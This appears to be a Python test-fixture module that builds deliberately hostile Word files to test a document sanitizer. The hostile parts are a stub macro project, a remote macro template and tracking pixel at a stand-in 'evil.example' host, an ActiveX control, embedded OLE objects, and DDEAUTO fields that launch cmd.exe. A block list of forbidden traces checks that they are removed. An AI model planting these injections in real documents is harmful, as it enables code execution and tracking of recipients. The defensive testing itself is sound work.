"""Word files built to carry something into every export: macros, outside links, ActiveX, embedded
objects, custom XML. Each starts from a real python-docx file with a house font, a header line
and a header logo (which must survive cleaning), then has the hostile parts written into the zip."""

import io
import posixpath
import re
import struct
import zipfile
import zlib

import docx
from docx.shared import Cm

OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
EVIL = "evil.example"
HEADER_TEXT = "Northern Utilities"
# Every trace a hostile part leaves; none may be in a cleaned file or an export.
FORBIDDEN_NAMES = ("vbaProject", "vbaData", "word/activeX/", "word/embeddings/", "customXml/")
FORBIDDEN_TEXT = (
    EVIL,
    'TargetMode="External"',
    "attachedTemplate",
    "macroEnabled",
    "vbaProject",
    "activeX",
    "oleObject",
    "customXml",
    "DDEAUTO",
    "w:object",
    "w:control",
)


def png() -> bytes:
    """A 2×2 red PNG: enough for python-docx to size a picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\0" + b"\xff\0\0" * 2 for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def base() -> bytes:
    """A clean house template: Georgia, a header line and a logo in the header."""
    doc = docx.Document()
    doc.styles["Normal"].font.name = "Georgia"
    header = doc.sections[0].header
    header.paragraphs[0].text = HEADER_TEXT
    header.add_paragraph().add_run().add_picture(io.BytesIO(png()), width=Cm(1))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _edit(content: bytes, *, replace: dict[str, tuple[str, str]] = (), add: dict[str, bytes | str] = ()) -> bytes:
    """The zip with text replaced in some parts (name → (old, new)) and parts added."""
    replace, add = dict(replace), dict(add)
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item)
            if item.filename in replace:
                old, new = replace[item.filename]
                text = data.decode()
                assert old in text, (item.filename, old)
                data = text.replace(old, new, 1).encode()
            archive.writestr(item.filename, data)
        for name, data in add.items():
            archive.writestr(name, data)
    return out.getvalue()


def _rels(*rels: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rels)
        + "</Relationships>"
    )


def _header_name(content: bytes) -> str:
    return next(n for n in zipfile.ZipFile(io.BytesIO(content)).namelist() if n.startswith("word/header"))


def with_macros() -> bytes:
    """vbaProject.bin and vbaData.xml, and a macro-enabled main part (a .docm)."""
    content = base()
    return _edit(
        content,
        replace={
            "[Content_Types].xml": (
                "wordprocessingml.document.main+xml",
                "wordprocessingml.document.main+xml"
                '"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml',
            ),
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                ' Target="vbaProject.bin"/></Relationships>',
            ),
        },
        add={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = AutoOpen",
            "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "word/_rels/vbaProject.bin.rels": _rels(
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData"'
                ' Target="vbaData.xml"/>'
            ),
        },
    )


def as_docm(content: bytes) -> bytes:
    return _edit(
        content,
        replace={
            "[Content_Types].xml": (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )


def with_attached_template() -> bytes:
    """settings.xml attaches a remote macro template (Word fetches it on open)."""
    return _edit(
        base(),
        replace={"word/settings.xml": ("<w:zoom ", '<w:attachedTemplate r:id="rIdT"/><w:zoom ')},
        add={
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rIdT" Type="{OD}attachedTemplate" Target="https://{EVIL}/macros.dotm"'
                ' TargetMode="External"/>'
            )
        },
    )


def with_remote_header_picture() -> bytes:
    """The header shows a picture fetched from outside (a tracking pixel) and links out."""
    content = base()
    header = _header_name(content)
    folder, name = header.rsplit("/", 1)
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="9525" cy="9525"/><wp:docPr id="99" name="pixel"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="99" name="pixel"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip {R_NS} r:link="rIdPixel"/></pic:blipFill>'
        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
        f'<w:p><w:hyperlink {R_NS} r:id="rIdLink"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>'
    )
    rels_name = f"{folder}/_rels/{name}.rels"
    return _edit(
        content,
        replace={
            header: ("</w:hdr>", drawing + "</w:hdr>"),
            rels_name: (
                "</Relationships>",
                f'<Relationship Id="rIdPixel" Type="{OD}image" Target="https://{EVIL}/pixel.png"'
                ' TargetMode="External"/>'
                f'<Relationship Id="rIdLink" Type="{OD}hyperlink" Target="https://{EVIL}/" TargetMode="External"/>'
                "</Relationships>",
            ),
        },
    )


def with_activex() -> bytes:
    """An ActiveX control in the header, with its parts under word/activeX/."""
    content = base()
    header = _header_name(content)
    folder, name = header.rsplit("/", 1)
    return _edit(
        content,
        replace={
            header: (
                "</w:hdr>",
                f'<w:p><w:r><w:object><w:control {R_NS} r:id="rIdX" w:name="Evil"/></w:object></w:r></w:p></w:hdr>',
            ),
            f"{folder}/_rels/{name}.rels": (
                "</Relationships>",
                f'<Relationship Id="rIdX" Type="{OD}control" Target="activeX/activeX1.xml"/></Relationships>',
            ),
            "[Content_Types].xml": (
                "<Default ",
                '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/><Default ',
            ),
        },
        add={
            "word/activeX/activeX1.xml": (
                '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                f'{R_NS} ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}"'
                ' ax:persistence="persistStorage" r:id="rId1"/>'
            ),
            "word/activeX/_rels/activeX1.xml.rels": _rels(
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary"'
                ' Target="activeX1.bin"/>'
            ),
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 control",
        },
    )


def with_custom_xml() -> bytes:
    """Custom XML bound to the document (python-docx's own files carry one; this adds another)."""
    return _edit(
        base(),
        replace={
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                f'<Relationship Id="rIdC2" Type="{OD}customXml" Target="../customXml/item2.xml"/></Relationships>',
            )
        },
        add={"customXml/item2.xml": f"<data><url>https://{EVIL}/collect</url></data>"},
    )


def with_ole_embedding_and_dde() -> bytes:
    """An embedded OLE object in the header and a DDEAUTO field (runs a command on open) in the body and header."""
    content = base()
    header = _header_name(content)
    folder, name = header.rsplit("/", 1)
    ole = (
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<o:OLEObject {R_NS} Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rIdOle"/>'
        "</w:object></w:r></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        ' "/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _edit(
        content,
        replace={
            header: ("</w:hdr>", ole + "</w:hdr>"),
            f"{folder}/_rels/{name}.rels": (
                "</Relationships>",
                f'<Relationship Id="rIdOle" Type="{OD}oleObject" Target="embeddings/oleObject1.bin"/></Relationships>',
            ),
            "[Content_Types].xml": (
                "<Default ",
                '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
                "<Default ",
            ),
            "word/document.xml": (
                "<w:body>",
                '<w:body><w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; ">'
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
            ),
        },
        add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 payload"},
    )


HOSTILE = {
    "macros": (with_macros, "Macros"),
    "docm": (lambda: as_docm(with_macros()), "Macros"),
    "attached-template": (with_attached_template, "attached template"),
    "remote-header-picture": (with_remote_header_picture, f"https://{EVIL}/pixel.png"),
    "activex": (with_activex, "ActiveX"),
    "custom-xml": (with_custom_xml, "Custom XML"),
    "ole-embedding": (with_ole_embedding_and_dde, "embedded object"),
}


def problems(content: bytes) -> list[str]:
    """What in this .docx a cleaned template or an export must never hold, and any loose end in its package."""
    found = []
    archive = zipfile.ZipFile(io.BytesIO(content))
    names = archive.namelist()
    found += [n for n in names if any(bad.lower() in n.lower() for bad in FORBIDDEN_NAMES)]
    for name in names:
        text = archive.read(name).decode("utf-8", "replace")
        found += [f"{bad} in {name}" for bad in FORBIDDEN_TEXT if bad in text]
    # Consistent: every relationship leads to a part that is there, every part has a content type.
    types = archive.read("[Content_Types].xml").decode()
    for name in names:
        if name.endswith(".rels"):
            folder = name.rsplit("_rels/", 1)[0]
            for target in re.findall(r'Target="([^"]+)"', archive.read(name).decode()):
                resolved = posixpath.normpath(posixpath.join(folder, target)).lstrip("/")
                if resolved not in names:
                    found.append(f"{name} leads to missing {target}")
        elif name != "[Content_Types].xml":
            extension = name.rsplit(".", 1)[-1]
            if f'PartName="/{name}"' not in types and f'Extension="{extension}"' not in types:
                found.append(f"{name} has no content type")
    return found
